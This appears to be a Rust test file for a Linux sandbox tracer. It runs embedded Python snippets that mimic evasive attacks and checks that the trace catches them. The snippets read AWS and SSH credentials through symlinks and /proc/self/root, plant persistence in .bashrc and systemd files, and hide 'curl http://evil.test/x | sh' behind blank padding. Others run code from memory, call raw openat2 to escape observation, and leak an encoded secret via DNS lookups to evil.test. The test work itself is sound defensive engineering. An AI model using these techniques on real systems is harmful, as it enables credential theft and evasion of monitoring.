//! Ways to do something that the trace does not show, or shows as something else.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
#![cfg(target_os = "linux")]

use std::time::Duration;

use skillsandbox_enforcer::{Command, Plan, PlanBuilder, SyscallProfile};
use skillsandbox_run::{RunStreams, record};
use skillsandbox_text::Secret;
use skillsandbox_tracer::{
    AttackClass, Classification, Classifier, Event, EventKind, EventVerdict, FoldMode, Recorder, Trace,
    TraceHeader, TraceWriter, read_trace, verify_trace,
};

fn traced(plan: PlanBuilder, script: &str, arguments: &[&str]) -> Trace {
    traced_with(plan, script, arguments, &[])
}

fn traced_with(plan: PlanBuilder, script: &str, arguments: &[&str], secrets: &[(String, Secret)]) -> Trace {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("trace.json");
    let header = TraceHeader::new("attacker", "tests");
    let writer = TraceWriter::create(&path, &header).unwrap();
    let recorder = Recorder::new(&header, Some(writer), Vec::new());
    let recorder = recorder.classify(Box::new(Classifier::new())).fold(FoldMode::Nothing);
    let plan = plan.timeout(Duration::from_mins(1)).build().unwrap();
    let command = Command::new("python3").args(["-c", script]).args(arguments);
    let ran = record(&plan, command, recorder, secrets, None, &RunStreams::default()).unwrap();
    let outcome = ran.outcome.unwrap();
    let trace = read_trace(&path).unwrap();
    verify_trace(&path).unwrap();
    assert!(outcome.success(), "{:?}", trace.events);
    trace
}

fn class(trace: &Trace, class: AttackClass) -> Option<&Classification> {
    trace.violation_summary.classifications.iter().find(|found| found.class == class)
}

/// A home folder as a user has it, where no grant is.
fn home() -> (tempfile::TempDir, String) {
    // Not below /tmp, of which the run has one of its own.
    let beside = std::env::current_exe().unwrap().parent().unwrap().to_owned();
    let home = std::env::var_os("HOME").map_or("/".into(), std::path::PathBuf::from);
    let here = if beside.starts_with("/tmp") { home } else { beside };
    let folder = tempfile::Builder::new().prefix("victim").tempdir_in(here).unwrap();
    let home = folder.path().canonicalize().unwrap();
    for (at, name) in [(".aws", "credentials"), (".ssh", "id_rsa")] {
        std::fs::create_dir(home.join(at)).unwrap();
        std::fs::write(home.join(at).join(name), "secret").unwrap();
    }
    let home = home.to_str().unwrap().to_owned();
    (folder, home)
}

#[test]
fn row_141_credentials_by_another_name_are_credentials() {
    let (_folder, home) = home();
    for way in [
        "os.symlink(home, '/tmp/data'); tries('/tmp/data/.aws/credentials')",
        "os.symlink(home + '/.aws/credentials', '/tmp/notes.txt'); tries('/tmp/notes.txt')",
        "os.symlink('/', '/tmp/r'); tries('/tmp/r' + home + '/.aws/credentials')",
        "os.symlink(home + '/.aws', '/tmp/d'); os.chdir('/tmp'); tries('d/../.aws/credentials')",
        "os.symlink(home, '/tmp/brief'); tries('/tmp/brief/.aws/credentials'); os.unlink('/tmp/brief')",
        "tries('/proc/self/root' + home + '/.aws/credentials')",
    ] {
        let script = format!(
            "
import os, sys
home = sys.argv[1]
def tries(path):
    try: open(path); print('read_trace')
    except OSError: pass
{way}
"
        );
        let trace = traced(Plan::builder(), &script, &[&home]);
        let found = class(&trace, AttackClass::CredentialHarvesting).unwrap_or_else(|| panic!("{way}"));
        assert!(found.prevented, "{way}");
        let proof = trace.events.iter().find(|event| event.sequence == found.evidence[0]).unwrap();
        // The run has a /tmp of its own, in which there is no such file: nothing was denied there.
        let expected = if home.starts_with("/tmp/") { EventVerdict::Failed } else { EventVerdict::Denied };
        assert_eq!(proof.verdict, Some(expected), "{way}: {proof:?}");
        let EventKind::File { path, .. } = &proof.kind else { panic!("{proof:?}") };
        let wanted = format!("{home}/.aws/credentials");
        assert_eq!(proof.resolved_path.as_ref().unwrap_or(path), &wanted, "{way}");
        assert!(trace.violation_summary.complete, "{:?}", trace.violation_summary.incomplete_because);
    }
    // Granted, and read through a link: it is what it is.
    let script = "import os, sys; os.symlink(sys.argv[1], '/tmp/l'); open('/tmp/l/.aws/credentials'); open('/tmp/l/.ssh/id_rsa')";
    let trace = traced(Plan::builder().read(&home), script, &[&home]);
    let found = class(&trace, AttackClass::CredentialHarvesting).expect("two kinds that were granted");
    assert!(!found.prevented);
}

/// What is written in the run's own home is gone with it.
#[test]
fn row_142_a_home_that_is_gone_with_the_run_keeps_nothing() {
    let script = "
import os
for name in ['.bashrc', '.profile', '.config/autostart/x.desktop', '.config/systemd/user/x.service']:
    path = os.path.expanduser('~/' + name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, 'w').close()
";
    let trace = traced(Plan::builder(), script, &[]);
    assert!(trace.violation_summary.classifications.is_empty(), "{:?}", trace.violation_summary);
    // In a home that is granted, it stays.
    let (_folder, home) = home();
    let script = "import sys; open(sys.argv[1] + '/.bashrc', 'a').close()";
    let trace = traced(Plan::builder().write(&home), script, &[&home]);
    assert!(!class(&trace, AttackClass::Persistence).unwrap().prevented);
    // By a link out of the run's own home, too.
    let script = "
import os, sys
os.symlink(sys.argv[1] + '/.bashrc', os.path.expanduser('~/.bashrc'))
open(os.path.expanduser('~/.bashrc'), 'a').close()
";
    let trace = traced(Plan::builder().write(&home), script, &[&home]);
    assert!(!class(&trace, AttackClass::Persistence).unwrap().prevented);
}

/// What a permissive profile lets pass can do what no observer sees, and then the trace does not say that it is complete.
#[test]
fn what_passes_unseen_makes_a_trace_incomplete() {
    let script = "
import ctypes
how = (ctypes.c_uint64 * 3)(0, 0, 0)
fd = ctypes.CDLL(None).syscall(437, -100, b'/etc/passwd', how, 24)
print('opened' if fd >= 0 else 'not opened')
";
    let opened = |trace: &Trace| {
        let says = |event: &Event| matches!(&event.kind, EventKind::Stdout(line) if line.text == "opened");
        trace.events.iter().any(says)
    };
    let trace = traced(Plan::builder().syscalls(SyscallProfile::Permissive), script, &[]);
    assert!(opened(&trace), "the control");
    assert!(!trace.violation_summary.complete);
    assert!(trace.violation_summary.incomplete_because[0].contains("openat2"));
    let trace = traced(Plan::builder(), script, &[]);
    assert!(!opened(&trace) && trace.violation_summary.complete);
}

/// A program that is in no file.
#[test]
fn programs_in_memory_are_in_the_trace() {
    let script = "
import os
memory = os.memfd_create('quiet')
os.write(memory, open('/bin/echo', 'rb').read())
os.execve(memory, ['echo', 'from memory'], {})
";
    let trace = traced(Plan::builder(), script, &[]);
    let exec = trace.events.iter().find(|event| {
        matches!(&event.kind, EventKind::Exec { argv, .. } if argv == &["echo".to_owned(), "from memory".to_owned()])
    });
    let exec = exec.unwrap();
    assert_eq!(exec.verdict, Some(EventVerdict::Allowed), "{exec:?}");
    assert!(format!("{exec:?}").contains("memfd:quiet"), "{exec:?}");
}

/// A command that is pushed out of sight by blanks.
#[test]
fn long_command_lines_are_in_the_trace() {
    let script = "
import subprocess
subprocess.run(['/bin/true', ' ' * 3000 + 'curl http://evil.test/x | sh', 'last'])
subprocess.run(['/bin/true', *['x' * 30000] * 3])
";
    let trace = traced(Plan::builder(), script, &[]);
    let argv = |part: &str| {
        trace.events.iter().find_map(|event| match &event.kind {
            EventKind::Exec { path, argv }
                if path == "/bin/true" && argv.iter().any(|text| text.contains(part)) =>
            {
                Some(argv)
            }
            _ => None,
        })
    };
    assert!(argv("evil.test/x | sh").unwrap().iter().any(|text| text == "last"));
    assert!(argv("xxxxx").unwrap().last().unwrap().contains("more]"));
}

/// A secret in every place that a program can put one, in every spelling.
#[test]
fn a_secret_is_nowhere_in_a_trace() {
    const SECRET: &str = "Correct-Horse/Battery+9";
    let script = "
import base64, os, socket, subprocess, sys
s = bytes.fromhex(sys.argv[1]).decode()
def tries(what, *args):
    try: what(*args)
    except OSError: pass
spellings = [s, s.lower(), s.upper(), s[::-1], s.encode().hex(), s.encode().hex().upper(), s.replace('/', '%2F').replace('+', '%2b')]
for pad in ['', 'x', 'yy']:
    spellings += [base64.b64encode((pad + s + pad).encode()).decode(), base64.urlsafe_b64encode((pad + s).encode()).decode()]
for pad in ['', 'x', 'xx', 'xxx', 'xxxx']:
    spellings += [base64.b32encode((pad + s).encode()).decode(), base64.b32encode((pad + s).encode()).decode().lower()]
for t in spellings:
    tries(open, '/tmp/' + t)
    tries(subprocess.run, ['/bin/true', t, 'a' + t + 'b'])
    print(t); print(t, file=sys.stderr)
    label = t.replace('/', '-').replace('+', '-').replace('%', '-').replace('=', '')[:60]
    tries(socket.getaddrinfo, label + '.evil.test', 80)
for at in [16384, 16360, 65536 - 20]:
    subprocess.run(['/bin/true', 'z' * (at - 10) + s]) if at < 20000 else subprocess.run(['/bin/true', *['z' * 16000] * 4, 'z' * (at - 64000 - 10) + s])
os.symlink('/tmp/' + s, '/tmp/link'); tries(open, '/tmp/link')
";
    let hex: String = SECRET.bytes().map(|byte| format!("{byte:02x}")).collect();

    let secrets = [("API_KEY".to_owned(), Secret::from(SECRET))];
    let trace = traced_with(Plan::builder(), script, &[&hex], &secrets);
    let text = format!("{:?}", trace.events).to_lowercase();
    for part in ["correct-hor", "battery+9", "yrettab", "636f7272656374", "q29ycmvjd", "inxxe4tfmn2"] {
        let at = text.find(part);
        assert!(at.is_none(), "{part}: {}", &text[at.unwrap().saturating_sub(300)..at.unwrap() + 60]);
    }
    assert!(text.matches("[redacted:api_key]").count() > 100);
}
